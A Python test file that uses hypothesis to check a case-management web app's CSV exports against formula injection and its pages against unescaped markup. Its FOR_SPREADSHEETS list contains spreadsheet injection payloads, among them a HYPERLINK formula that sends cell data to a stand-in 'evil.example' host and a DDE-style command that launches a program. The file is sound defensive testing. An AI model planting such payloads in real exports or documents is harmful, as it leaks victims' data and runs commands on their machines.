"""Escaping in CSV exports (issue 8): hostile text entered through the real forms comes back verbatim in the CSV.

In the style of the escaping suite in tests/security/test_escaping_and_crash_safety.py (and with its hostile pieces): hypothesis mixes
markup, template syntax, right-to-left overrides, control characters, quotes, commas, new lines and text that
starts like a spreadsheet formula, and enters it through the forms people use: the staff intake (applicant's
name), the action form (description), the progress update form (note) and the administrator's agency and area
forms. Read back through `csv.reader`, each cell is exactly what the form saved, behind a leading `'` only when it
starts like a formula; on the pages it is escaped text. A form may refuse the text (400) but never fail (500).
"""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from itertools import count

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from tests import actions_helpers
from tests.cases_helpers import make_case, staff_form
from tests.conftest import login, post
from tests.security.test_escaping_and_crash_safety import HOSTILE, assert_shown_safely
from trigger.domain.csv_safety import FORMULA_STARTS
from trigger.extensions import db
from trigger.models import Action, ActionUpdate, Agency, AgencyType, Area, Case, Role

FOR_SPREADSHEETS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "=",
    '"',
    '","',
    ",",
    ";",
    "\n",
    "\r\n",
    "\r",
    '""quoted""',
    "a,b\nc,d",
]


def spreadsheet_text(max_size: int):
    piece = st.one_of(st.sampled_from(HOSTILE + FOR_SPREADSHEETS), st.text(st.characters(codec="utf-8"), max_size=12))
    lead = st.sampled_from(["", "", "=", "+", "-", "@"])  # often, text a spreadsheet would take for a formula
    return (
        st.tuples(lead, st.lists(piece, min_size=1, max_size=4).map("".join))
        .map("".join)
        .map(lambda s: s[:max_size])
        .filter(lambda s: s.strip() and "\x00" not in s)
    )


HYPOTHESIS = settings(
    max_examples=25,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
_unique = count(1)


def as_spreadsheet(text: str) -> str:
    """What the export must hold for `text`: the text itself, behind `'` when it starts like a formula."""
    if text.startswith(FORMULA_STARTS):
        event("starts like a formula")
        return "'" + text
    return text


def csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.status_code
    header, *rows = csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline=""))
    return [dict(zip(header, row, strict=True)) for row in rows]


def submit(client, url: str, data: dict):
    response = post(client, url, data)
    assert response.status_code in (302, 400), (url, response.status_code)
    event("saved" if response.status_code == 302 else "refused by the form")  # --hypothesis-show-statistics
    return response


def signed_in(app, user):
    client = app.test_client()
    login(client, user)
    return client


@pytest.fixture
def people(app, make_user, make_area, make_agency):
    police = make_agency("Test Police", AgencyType.POLICE)
    return {
        "area": make_area("Testbury"),
        "police": police,
        "coordinator": make_user(Role.COORDINATOR),
        "admin": make_user(Role.ADMIN),
        "rep": make_user(Role.AGENCY_REP, agency=police),
    }


@given(name=spreadsheet_text(110))
@HYPOTHESIS
def test_an_applicant_s_name_comes_back_verbatim_in_the_case_list_export(app, people, name):
    client = signed_in(app, people["coordinator"])
    before = db.session.scalar(select(Case.id).order_by(Case.id.desc()).limit(1)) or 0
    form = staff_form(people["area"], people["police"], applicant_name=name)
    if submit(client, "/cases/new", form).status_code != 302:
        return
    case = db.session.scalar(select(Case).where(Case.id > before))
    assert case.applicant_name == name.strip()  # the form trims the ends, nothing else
    rows = csv_rows(client.get(f"/cases/export.csv?q={case.reference}"))
    assert [row["Applicant"] for row in rows if row["Reference"] == case.reference] == [
        as_spreadsheet(case.applicant_name)
    ]
    assert_shown_safely(client.get(f"/cases?q={case.reference}").get_data(as_text=True), case.applicant_name)


@given(description=spreadsheet_text(3000))
@HYPOTHESIS
def test_an_action_description_comes_back_verbatim_in_the_plan_and_my_actions_exports(app, people, description):
    case = make_case(people["area"], people["police"])
    client = signed_in(app, people["coordinator"])
    response = submit(
        client,
        f"/cases/{case.id}/plan/actions/new",
        {
            "description": description,
            "owner_agency_id": str(people["police"].id),
            "priority": "low",
            "due_on": (date.today() + timedelta(days=7)).isoformat(),
        },
    )
    if response.status_code != 302:
        return
    saved = db.session.scalar(select(Action.description).where(Action.plan.has(case_id=case.id)))
    assert saved == description.strip()
    assert [row["Action"] for row in csv_rows(client.get(f"/cases/{case.id}/plan.csv"))] == [as_spreadsheet(saved)]
    mine = csv_rows(signed_in(app, people["rep"]).get("/my-actions.csv"))
    assert [row["Action"] for row in mine if row["Case"] == case.reference] == [as_spreadsheet(saved)]
    assert_shown_safely(client.get(f"/cases/{case.id}/plan").get_data(as_text=True), saved)


@given(note=spreadsheet_text(2000))
@HYPOTHESIS
def test_a_progress_note_comes_back_verbatim_as_the_latest_update(app, people, note):
    case = actions_helpers.make_case(people["area"])
    action = actions_helpers.make_action(case, people["police"])
    rep = signed_in(app, people["rep"])
    response = submit(
        rep,
        f"/actions/{action.id}/update",
        {"note": note, "status": "in-progress", "reason": "", "version": str(action.version)},
    )
    if response.status_code != 302:
        return
    saved = db.session.scalar(select(ActionUpdate.note).where(ActionUpdate.action_id == action.id))
    assert saved == note.strip()
    mine = csv_rows(rep.get("/my-actions.csv"))
    assert [row["Latest update"] for row in mine if row["Case"] == case.reference] == [as_spreadsheet(saved)]
    plan = csv_rows(rep.get(f"/cases/{case.id}/plan.csv"))
    assert [row["Latest update"] for row in plan] == [as_spreadsheet(saved)]
    assert_shown_safely(rep.get(f"/cases/{case.id}/plan").get_data(as_text=True), saved)


@given(name=spreadsheet_text(100))
@HYPOTHESIS
def test_agency_and_area_names_come_back_verbatim_in_the_exports(app, people, name):
    admin = signed_in(app, people["admin"])
    n = next(_unique)
    typed = f"{name} {n}"  # unique, and the admin forms' own rules are not under test here
    agency_ok = (
        submit(
            admin,
            "/admin/agencies/new",
            {"name": typed[:160], "agency_type": "housing", "contact_email": "", "active": "y"},
        ).status_code
        == 302
    )
    area_ok = (
        submit(
            admin, "/admin/areas/new", {"name": typed[:120], "nation": "england-and-wales", "active": "y"}
        ).status_code
        == 302
    )
    if not (agency_ok and area_ok):
        return
    agency = db.session.scalar(select(Agency).order_by(Agency.id.desc()).limit(1))
    area = db.session.scalar(select(Area).order_by(Area.id.desc()).limit(1))
    assert (agency.name, area.name) == (typed[:160].strip(), typed[:120].strip())
    case = make_case(area, agency)
    actions_helpers.make_action(case, agency)
    rows = csv_rows(admin.get(f"/cases/export.csv?area={area.id}"))
    assert [row["Area"] for row in rows] == [as_spreadsheet(area.name)]
    plan = csv_rows(admin.get(f"/cases/{case.id}/plan.csv"))
    assert [row["Owner agency"] for row in plan] == [as_spreadsheet(agency.name)]
    assert_shown_safely(admin.get(f"/cases/{case.id}/plan").get_data(as_text=True), agency.name)
